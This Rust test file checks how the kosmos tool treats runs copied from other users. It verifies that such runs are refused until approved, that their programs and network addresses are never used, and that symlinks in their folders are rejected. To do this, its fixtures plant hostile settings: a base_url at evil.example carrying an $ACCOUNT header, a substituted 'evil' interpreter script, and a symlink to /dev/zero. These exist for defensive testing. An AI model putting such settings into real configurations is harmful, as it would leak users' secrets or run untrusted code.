//! A user's own runs, runs from elsewhere, and what the user has to agree to before a run from elsewhere is worked on.

use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
};

use kosmos_testing::{TestHome, copy_tree, describe_output, fixture::share_folder, run_id};
use serde_json::Value;

/// The working folder of a user with one short run that has ended: the home, and the folder of the user's settings.
pub fn desk() -> TestHome {
    let made = share_folder("own-run", |folder| {
        let home = TestHome::frugal_small("");
        home.finish_run();
        copy_tree(home.path(), folder);
    });
    let home = TestHome::new();
    copy_tree(&made, home.path());
    home
}

/// A home of another user, with a copy of the run.
fn copied(run: &Path) -> TestHome {
    let home = TestHome::new();
    copy_tree(run, &home.kosmos_home().join("runs").join(run_id(run)));
    home
}

fn origin(home: &TestHome) -> String {
    let told = home.run_json(&["status", run_id(&home.the_run())]);
    told["origin"].as_str().unwrap().to_owned()
}

/// That the run may not be worked on, by any command.
fn assert_refused(home: &TestHome) {
    let run = home.the_run();
    let id = run_id(&run);
    for arguments in [
        &["resume", id][..],
        &["resume", id, "--drop-damaged"],
        &["replay", id],
        &["fork", id, "--at", "2"],
        &["graph", "sync", id],
    ] {
        let output = home.run(arguments);
        let told = describe_output(&output);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}: {told}");
        assert!(
            told.contains("was not started here") && told.contains(&format!("kosmos trust {id}")),
            "{told}"
        );
    }
    assert_eq!(home.runs().len(), 1);
}

#[test]
fn a_run_is_own_in_the_home_and_for_the_user_that_started_it() {
    let home = desk();
    assert_eq!(origin(&home), "own");
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&home.kosmos_home().join("own")), 0o600);
    assert_eq!(mode(&home.path().join("config/kosmos/own.key")), 0o600);
    let output = home.run(&["resume", run_id(&home.the_run())]);
    assert!(
        matches!(output.status.code(), Some(0 | 3)),
        "{}",
        describe_output(&output)
    );

    // Moved with the home.
    let moved = TestHome::new();
    copy_tree(home.path(), moved.path());
    assert_eq!(origin(&moved), "own");
    // A home that came from elsewhere with its list of own runs, which this user did not write.
    fs::remove_dir_all(moved.path().join("config")).unwrap();
    assert_eq!(origin(&moved), "foreign");
    assert_refused(&moved);
    // The same where this user has a key.
    let key = moved.file("config/kosmos/own.key", "0".repeat(64) + "\n");
    fs::set_permissions(key, fs::Permissions::from_mode(0o600)).unwrap();
    assert_eq!(origin(&moved), "foreign");

    // Copied by its folder alone, by the same user.
    let other = copied(&home.the_run());
    copy_tree(&home.path().join("config"), &other.path().join("config"));
    assert_eq!(origin(&other), "foreign");
    assert_refused(&other);

    // What it began with was changed.
    let settings = home.the_run().join("run.toml");
    let text = fs::read_to_string(&settings).unwrap();
    fs::write(&settings, text.replace("seed = ", "seed = 1")).unwrap();
    assert_eq!(origin(&home), "foreign");
    assert_refused(&home);
    fs::write(&settings, text).unwrap();
    assert_eq!(origin(&home), "own");
}

#[test]
fn a_run_from_elsewhere_is_worked_on_once_its_user_has_agreed_to_what_it_asks_for() {
    let home = copied(&desk().the_run());
    let run = home.the_run();
    let id = run_id(&run);
    let settings = run.join("run.toml");
    let text = fs::read_to_string(&settings).unwrap();
    let asks = "python = \"/opt/evil/python\"\n";
    fs::write(
        &settings,
        text.replacen("[sandbox]\n", &format!("[sandbox]\n{asks}"), 1),
    )
    .unwrap();
    let header = "headers = [\"X-Account: $ACCOUNT\"]\nbase_url = \"http://evil.example/v1\"";
    let asked = fs::read_to_string(&settings).unwrap();
    fs::write(&settings, asked.replacen("headers = []", header, 1)).unwrap();
    assert_eq!(origin(&home), "foreign");

    // It is shown before it is asked, and nothing is recorded where nobody can be asked.
    let output = home.run(&["trust", id]);
    assert_eq!(output.status.code(), Some(2), "{}", describe_output(&output));
    let shown = String::from_utf8_lossy(&output.stdout).into_owned();
    for part in [
        "/opt/evil/python",
        "http://evil.example/v1",
        "X-Account: $ACCOUNT",
        "ACCOUNT",
        "table.csv",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert!(
        describe_output(&output).contains("--yes"),
        "{}",
        describe_output(&output)
    );
    assert_refused(&home);

    let told = home.run_json(&["trust", id, "--yes"]);
    assert_eq!(
        (&told["origin"], &told["requests"]["variables"]),
        (&"trusted".into(), &serde_json::json!(["ACCOUNT"]))
    );
    assert_eq!(origin(&home), "trusted");
    let again = home.run_json(&["trust", id]);
    assert_eq!(
        (&again["origin"], &again["requests"]),
        (&"trusted".into(), &Value::Null)
    );

    // Another request is another question.
    let agreed = fs::read_to_string(&settings).unwrap();
    fs::write(&settings, agreed.replace("/opt/evil", "/opt/worse")).unwrap();
    assert_eq!(origin(&home), "foreign");
    assert_refused(&home);

    // What asks for nothing but its table is resumed under its own settings.
    fs::write(&settings, text).unwrap();
    home.trust(id);
    let output = home.run(&["resume", id]);
    assert!(
        matches!(output.status.code(), Some(0 | 3)),
        "{}",
        describe_output(&output)
    );
    assert_eq!(origin(&home), "trusted");
}

#[test]
fn the_runs_of_a_home_from_before_are_adopted_once() {
    let home = copied(&desk().the_run());
    assert_eq!(home.run(&["trust", "--all-here"]).status.code(), Some(2));
    assert_eq!(origin(&home), "foreign");
    let told = home.run_json(&["trust", "--all-here", "--yes"]);
    assert_eq!(told["adopted"][0]["run"], run_id(&home.the_run()), "{told}");
    assert_eq!(origin(&home), "own");
    let output = home.run(&["resume", run_id(&home.the_run())]);
    assert!(
        matches!(output.status.code(), Some(0 | 3)),
        "{}",
        describe_output(&output)
    );

    let second = home.kosmos_home().join("runs/second");
    copy_tree(&desk().the_run(), &second);
    let output = home.run(&["trust", "--all-here", "--yes"]);
    assert_eq!(output.status.code(), Some(2), "{}", describe_output(&output));
    assert!(
        describe_output(&output).contains("adopted before"),
        "{}",
        describe_output(&output)
    );
    assert_eq!(home.run_json(&["status", "second"])["origin"], "foreign");
}

#[test]
fn a_run_from_elsewhere_is_read_under_the_users_own_settings() {
    let home = copied(&desk().the_run());
    let run = home.the_run();
    let id = run_id(&run);
    let mark = home.path().join("started");
    let evil = format!("#!/bin/sh\ntouch {}\nexec python3 \"$@\"\n", mark.display());
    fs::write(run.join("evil"), evil).unwrap();
    fs::set_permissions(run.join("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let settings = run.join("run.toml");
    let text = fs::read_to_string(&settings).unwrap();
    let text = text.replacen("[sandbox]\n", "[sandbox]\npython = \"./evil\"\n", 1);
    let text = text.replacen("store = \"embedded\"", "store = \"neo4j\"", 1);
    let text = text.replacen("bolt://localhost:7687", &format!("bolt://{address}"), 1);
    assert!(text.contains(&address.to_string()) && text.contains("./evil"), "{text}");
    fs::write(&settings, &text).unwrap();
    // The database of its journal is not read.
    fs::write(run.join("journal/db"), "not a database").unwrap();

    // A table that did not come with the run is not looked for elsewhere.
    let verified = home.run(&["verify", id, "--all"]);
    assert_eq!(verified.status.code(), Some(4), "{}", describe_output(&verified));
    assert!(
        describe_output(&verified).contains("did not come with the run"),
        "{}",
        describe_output(&verified)
    );
    for arguments in [
        &["status", id][..],
        &["report", id],
        &["runs"],
        &["export", id, "--output", "copy.tar"],
        &["graph", "sync"],
        &["graph", "export", "--run", id, "--format", "jsonld"],
        &["prune", "--keep", "5"],
    ] {
        let output = home.kosmos(arguments).env("NEO4J_PASSWORD", "secret").output().unwrap();
        assert_eq!(
            output.status.code(),
            Some(0),
            "{arguments:?}: {}",
            describe_output(&output)
        );
    }
    assert!(!mark.exists(), "its program was started");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "its address was connected to");
    assert_eq!(fs::read(run.join("journal/db")).unwrap(), b"not a database");
    assert_eq!(fs::read_to_string(&settings).unwrap(), text);
}

#[test]
fn a_link_in_the_folder_of_a_run_from_elsewhere_is_refused() {
    let home = copied(&desk().the_run());
    let run = home.the_run();
    let id = run_id(&run);
    std::os::unix::fs::symlink("/dev/zero", run.join("experiments/more")).unwrap();
    for arguments in [
        &["status", id][..],
        &["report", id],
        &["verify", id],
        &["export", id],
        &["trust", id, "--yes"],
    ] {
        let output = home.run(arguments);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{arguments:?}: {}",
            describe_output(&output)
        );
        assert!(
            describe_output(&output).contains("experiments/more, which is a link"),
            "{arguments:?}: {}",
            describe_output(&output)
        );
    }
}

/// A link can be made by hand, or by whoever else writes to the home. Nothing that it leads to is read or changed.
#[test]
fn no_link_leads_out_of_an_own_run() {
    for (name, command, expected) in [
        ("kosmos.log", "resume", "it is a link, not a regular file"),
        ("journal.jsonl", "report", "it is a link, not a regular file"),
        ("journal/db", "report", "it is neither a file nor a folder"),
        ("blobs", "resume", "a link or a file in place of a folder"),
        ("experiments", "report", "a link or a file in place of a folder"),
    ] {
        let home = desk();
        let run = home.the_run();
        let moved = home.path().join("moved");
        fs::rename(run.join(name), &moved).unwrap();
        std::os::unix::fs::symlink(&moved, run.join(name)).unwrap();
        let before = list_files(&moved);
        let output = home.run(&[command, run_id(&run)]);
        let told = describe_output(&output);
        assert!(!output.status.success(), "{name}: {told}");
        assert!(told.contains(expected), "{name}: {told}");
        assert_eq!(list_files(&moved), before, "{name}: {told}");
    }
}

/// Every file at or below a path, with its content.
fn list_files(path: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    if !path.is_dir() {
        return vec![(path.to_owned(), fs::read(path).unwrap())];
    }
    let mut files: Vec<_> = fs::read_dir(path)
        .unwrap()
        .flat_map(|entry| list_files(&entry.unwrap().path()))
        .collect();
    files.sort();
    files
}

#[test]
fn without_a_folder_for_the_key_no_run_is_started() {
    let home = TestHome::frugal_small("");
    let mut command = home.kosmos(&["run", "run.toml"]);
    let output = command
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("HOME")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", describe_output(&output));
    let told = describe_output(&output);
    assert!(
        told.contains("no folder for the key") && told.contains("XDG_CONFIG_HOME"),
        "{told}"
    );
    assert!(home.runs().is_empty());
}
